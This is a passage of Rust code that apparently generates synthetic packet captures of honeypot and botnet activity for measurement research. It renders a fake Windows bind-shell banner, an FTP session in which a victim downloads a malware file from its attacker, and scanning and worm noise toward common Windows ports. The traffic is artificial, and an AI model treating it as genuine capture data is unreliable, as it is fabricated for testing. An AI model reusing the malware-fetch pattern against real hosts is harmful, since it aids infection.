        for e in &t.exploits {
            *t7.entry(e.vector.name().into()).or_default() += 1;
        }
        t.tables.table7 = shares(&t7);
        let mut t8: BTreeMap<String, u64> = BTreeMap::new();
        let mut t8s: BTreeMap<String, u64> = BTreeMap::new();
        let mut kinds = BTreeSet::new();
        let mut kinds_known = BTreeSet::new();
        let mut t2 = Table2 {
            days: self.cfg.days,
            ..Default::default()
        };
        for c in &t.copies {
            let name = serde_json::to_value(c.method)
                .ok()
                .and_then(|v| v.as_str().map(String::from))
                .unwrap_or_default();
            *t8.entry(name.clone()).or_default() += 1;
            if c.success {
                *t8s.entry(name).or_default() += 1;
                t2.detections += 1;
                kinds.insert(c.sha256.clone());
                if self.specs[c.specimen as usize].truth.known {
                    t2.known_detections += 1;
                    kinds_known.insert(c.sha256.clone());
                } else {
                    t2.unknown_detections += 1;
                }
            }
        }
        t2.kinds = kinds.len() as u64;
        t2.known_kinds = kinds_known.len() as u64;
        t2.unknown_kinds = t2.kinds - t2.known_kinds;
        t.tables.table2 = t2;
        t.tables.table8 = shares(&t8);
        t.tables.table8_success = t8s;
        let multi = t
            .specimens
            .iter()
            .filter(|s| s.config.servers.len() > 1)
            .count() as u64;
        let nb = t.specimens.len() as u64;
        t.tables.table4 = Table4 {
            bots: nb,
            multi_server: multi,
            percent: round2(multi as f64 * 100.0 / nb.max(1) as f64),
        };
        let mut t9: BTreeMap<u16, u64> = BTreeMap::new();
        let mut hours = vec![0u64; 24];
        for s in &t.irc_sessions {
            *t9.entry(s.port).or_default() += 1;
            let off = i64::from(zone.offset_at(s.join.secs()));
            let lh = ((s.join.secs() + off).rem_euclid(86_400) / 3600) as usize;
            hours[lh] += 1;
        }
        t.tables.table9 = shares(&t9);
        t.tables.joins_per_local_hour = hours;
        let mut t10: BTreeMap<String, u64> = BTreeMap::new();
        for o in t.orders.iter().filter(|o| o.command.starts_with("ddos.")) {
            *t10.entry(o.command.clone()).or_default() += 1;
        }
        t.tables.table10 = t10;
        let mut t11: BTreeMap<u16, u64> = BTreeMap::new();
        for s in &t.spam_relays {
            *t11.entry(s.port).or_default() += s.count as u64;
        }
        t.tables.table11 = shares(&t11);
        let bins: Vec<u32> = (1..=10).map(|k| k * 100).chain([u32::MAX]).collect();
        let mut counts = vec![0u64; bins.len()];
        for s in &t.spam_relays {
            let i = bins
                .iter()
                .position(|b| s.count <= *b)
                .unwrap_or(bins.len() - 1);
            counts[i] += 1;
        }
        let total: u64 = counts.iter().sum();
        t.tables.fig5 = Fig5 {
            bin_upper: bins,
            sources: counts.clone(),
            percent_le_100: round2(counts[0] as f64 * 100.0 / total.max(1) as f64),
        };
        for b in &t.bots {
            let mut seq = b.sequence.clone();
            seq.sort_by_key(|s| s.1);
            t.tables
                .fig3
                .insert(b.ip.to_string(), seq.into_iter().map(|s| s.0).collect());
        }
        let ups = t.updates.iter().filter(|u| u.kind == "update").count() as f64;
        t.tables.updates_per_bot_per_day =
            round2(ups / (t.bots.len().max(1) as f64 * self.cfg.days.max(1) as f64));
        t.tables.updates_failed = t
            .updates
            .iter()
            .filter(|u| u.kind == "update" && !u.success)
            .count() as u64;
        let _ = self.local_hour(0);
        let t = &mut self.t;
        t.tables.models = crate::truth::model_inputs(t);
        let mut only: Vec<Ipv4Addr> = t
            .p2p
            .iter()
            .flat_map(|n| n.p2p_only_hosts.iter().copied())
            .collect();
        only.sort();
        only.dedup();
        t.tables.p2p_only_hosts = only;
    }
}

/// What a Windows bind shell prints first (the shell dissector's cue).
const SHELL_BANNER: &[u8] = b"Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>";

/// Writes an FTP fetch (`cp.via == "ftp"`): the victim logs in on the
/// infecting host's FTP server (`cp.flow`), asks for a passive data
/// connection (`PASV`, the victim connects) or offers an active one
/// (`PORT`, the server connects from port 20), and RETRs the file; the
/// server sends it and `226` (a third and `426` on failure). Returns the
/// end time.
fn render_ftp_fetch(
    f: &mut PcapFile,
    cp: &CopyTruth,
    bytes: &[u8],
    (victim, attacker): (Ipv4Addr, Ipv4Addr),
    r: &mut ChaCha8Rng,
) -> i64 {
    let body = if cp.success {
        bytes
    } else {
        &bytes[..bytes.len() / 3]
    };
    let Some(ftp) = &cp.ftp else { return cp.ts.0 };
    let active = ftp.mode == "active";
    let d = &ftp.data_flow;
    let mut c = Tcp::new(
        victim,
        cp.flow.orig_p,
        attacker,
        cp.flow.resp_p,
        cp.ts.0,
        r.random(),
    );
    c.handshake(f);
    c.s_send(f, b"220 FTP server ready\r\n");
    let hp = |ip: Ipv4Addr, port: u16| {
        let a = ip.octets();
        format!(
            "{},{},{},{},{},{}",
            a[0],
            a[1],
            a[2],
            a[3],
            port >> 8,
            port & 0xff
        )
    };
    let (mode_cmd, mode_reply) = if active {
        (
            format!("PORT {}\r\n", hp(victim, d.resp_p)),
            "200 PORT command successful.\r\n".to_string(),
        )
    } else {
        (
            "PASV\r\n".to_string(),
            format!("227 Entering Passive Mode ({})\r\n", hp(attacker, d.resp_p)),
        )
    };
    for (cmd, reply) in [
        (&b"USER 1\r\n"[..], &b"331 Password required.\r\n"[..]),
        (b"PASS 1\r\n", b"230 Logged in.\r\n"),
        (b"TYPE I\r\n", b"200 Type set to I.\r\n"),
        (mode_cmd.as_bytes(), mode_reply.as_bytes()),
    ] {
        c.c_send(f, cmd);
        c.s_send(f, reply);
    }
    let isn = (cp.flow.orig_p as u32).wrapping_mul(0x9e37_79b9);
    let announce = |c: &mut Tcp, f: &mut PcapFile| {
        c.c_send(f, format!("RETR {}\r\n", cp.filename).as_bytes());
        c.s_send(
            f,
            format!(
                "150 Opening BINARY mode data connection for {} ({} bytes).\r\n",
                cp.filename,
                bytes.len()
            )
            .as_bytes(),
        );
    };
    let (dc, ds) = if active {
        (attacker, victim)
    } else {
        (victim, attacker)
    };
    let mut data = Tcp::new(dc, d.orig_p, ds, d.resp_p, 0, isn);
    if active {
        // The server connects once the RETR asked for the file.
        announce(&mut c, f);
        data.t = c.t;
        data.handshake(f);
        data.c_send(f, body);
        data.close(f, true);
    } else {
        data.t = c.t + 5_000;
        data.handshake(f);
        c.t = data.t;
        announce(&mut c, f);
        data.t = c.t;
        data.s_send(f, body);
        data.close(f, false);
    }
    c.t = data.t + 5_000;
    c.s_send(
        f,
        if cp.success {
            b"226 Transfer complete.\r\n"
        } else {
            b"426 Connection closed; transfer aborted.\r\n"
        },
    );
    c.c_send(f, b"QUIT\r\n");
    c.s_send(f, b"221 Goodbye.\r\n");
    c.close(f, true);
    c.t
}

fn r_as(r: &mut ChaCha8Rng) -> &mut ChaCha8Rng {
    r
}

/// What the background writer draws from the scenario stream.
struct BackgroundPlan {
    /// Scanning/noise sources.
    sources: Vec<Ipv4Addr>,
    /// Seed of the per-minute streams.
    seed: u64,
}

/// One background packet, drawn before the minute is sorted by time.
#[derive(Clone, Copy)]
struct BgPacket {
    t: i64,
    src: Ipv4Addr,
    dst: Ipv4Addr,
    ttl: u8,
    sport: u16,
    /// 0 SYN probe, 1 ICMP echo, 2 NetBIOS name query, 3 UDP worm noise.
    kind: u8,
    port: u16,
    /// TCP sequence number / ICMP id+seq.
    word: u32,
    /// UDP payload length.
    len: u16,
}

fn maybe_gre(gre: bool, sensors: &[Ipv4Addr], f: &mut PcapFile) {
    if gre {
        let tunnels = [(61, 193), (210, 150), (219, 110), (220, 108)]
            .iter()
            .map(|&(a, b)| GreTunnel {
                isp_end: Ipv4Addr::new(a, b, 0, 1),
                honeypot_end: Ipv4Addr::new(133, 1, 200, 1),
            })
            .collect();
        f.set_gre(tunnels, sensors);
    }
}

/// Writes the honeypot-net background capture: scanning and noise toward
/// every sensor at Table 1's rates. Each minute's packets are drawn, sorted
/// by time and built straight into the output run.
fn render_background(
    cfg: &SynthConfig,
    addrs: &[Ipv4Addr],
    plan: &BackgroundPlan,
    out: &Path,
) -> io::Result<(FileTruth, Table1)> {
    let rel = "pcap/honeynet-background.pcap";
    let mut f = PcapFile::create(&out.join(rel))?;
    maybe_gre(cfg.gre, addrs, &mut f);
    let minutes = match cfg.background_minutes {
        Some(m) => m as i64,
        None => (cfg.scale * 60.0).round() as i64,
    }
    .clamp(1, cfg.days as i64 * 1440);
    let n_addr = addrs.len() as f64;
    let (avg, peak) = (cfg.background_avg_kbps, cfg.background_peak_kbps);
    // One burst minute per hour at the peak rate; the rest so the hour
    // averages `avg`.
    let low = ((avg * 60.0 - peak) / 59.0).max(0.0);
    let mut total_ip = 0u64;
    let mut peak_bytes = 0u64;
    let sources = &plan.sources;
    let mut seeds = ChaCha8Rng::seed_from_u64(plan.seed);
    let payload_a = [b'A'; 600];
    let payload_icmp = [0xaau8; 64];
    const NBNS: [u8; 50] = [
        0x80, 0x94, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0x20, b'C', b'K', b'A', b'A', b'A', b'A', b'A',
        b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A',
        b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', b'A', 0, 0, 0x21, 0, 1,
    ];
    const SYN_PORTS: [u16; 10] = [135, 445, 139, 1025, 80, 4899, 3127, 2745, 6129, 1433];
    let mut pkts: Vec<BgPacket> = Vec::new();
    for m in 0..minutes {
        let burst_minute = (m % 60) == ((m / 60 * 37 + 11) % 60);
        let kbps = if burst_minute { peak } else { low };
        let target = (kbps * 1000.0 / 8.0 * 60.0 * n_addr) as u64;
        let t0 = cfg.start_us + m * 60_000_000;
        let mut r = ChaCha8Rng::seed_from_u64(seeds.random());
        let mut bytes = 0u64;
        pkts.clear();
        while bytes < target {
            let mut p = BgPacket {
                t: t0 + r.random_range(0..60_000_000),
                src: sources[r.random_range(0..sources.len())],
                dst: addrs[r.random_range(0..addrs.len())],
                ttl: r.random_range(100..128),
                sport: free_port(&mut r, 1025, 65000),
                kind: 0,
                port: 0,
                word: r.random(),
                len: 0,
            };
            let kind = r.random_range(0..10u8);
            bytes += match kind {
                0..=5 => {
                    p.port = SYN_PORTS[r.random_range(0..SYN_PORTS.len())];
                    40
                }
                6 | 7 => {
                    p.kind = 1;
                    92
                }
                8 => {
                    p.kind = 2;
                    28 + NBNS.len() as u64
                }
                _ => {
                    p.kind = 3;
                    p.len = r.random_range(100..600);
                    p.port = [1434u16, 1026, 1027][r.random_range(0..3)];
                    28 + p.len as u64
                }
            };
            pkts.push(p);
        }
        // Stable: equal times keep the order drawn.
        pkts.sort_by_key(|p| p.t);
        for p in &pkts {
            let ip = Ip4 {
                src: p.src,
                dst: p.dst,
                ttl: p.ttl,
            };
            match p.kind {
                0 => f.tcp(p.t, ip, p.sport, p.port, p.word, 0, flags::SYN, &[]),
                1 => f.icmp_echo(p.t, ip, (p.word >> 16) as u16, p.word as u16, &payload_icmp),
                2 => f.udp(p.t, ip, 137, 137, &NBNS),
                _ => f.udp(p.t, ip, p.sport, p.port, &payload_a[..p.len as usize]),
            }
        }
        total_ip += bytes;
        peak_bytes = peak_bytes.max(bytes);
        // Later minutes are all at or after the next minute's start.
        f.advance(t0 + 60_000_000)?;
    }
    let (packets, size) = f.finish()?;
    let file = FileTruth {
        path: rel.into(),
        kind: "pcap: honeypot-net background".into(),
        packets,
        bytes: size,
    };
    let window_s = minutes as u64 * 60;
    let avg_kbps = total_ip as f64 * 8.0 / 1000.0 / window_s as f64 / n_addr;
    let peak_kbps = peak_bytes as f64 * 8.0 / 1000.0 / 60.0 / n_addr;
    let ext = 30_000_000u64;
    let table1 = Table1 {
        addresses: addrs.len() as u32,
        window_s,
        ip_bytes: total_ip,
        avg_kbps_per_address: (avg_kbps * 10_000.0).round() / 10_000.0,
        peak_kbps_per_address: (peak_kbps * 10_000.0).round() / 10_000.0,
        peak_bin_s: 60,
        extrapolation_addresses: ext,
        extrapolated_avg_gbps: round2(avg_kbps * ext as f64 / 1e6),
        extrapolated_peak_gbps: round2(peak_kbps * ext as f64 / 1e6),
    };
    Ok((file, table1))
}
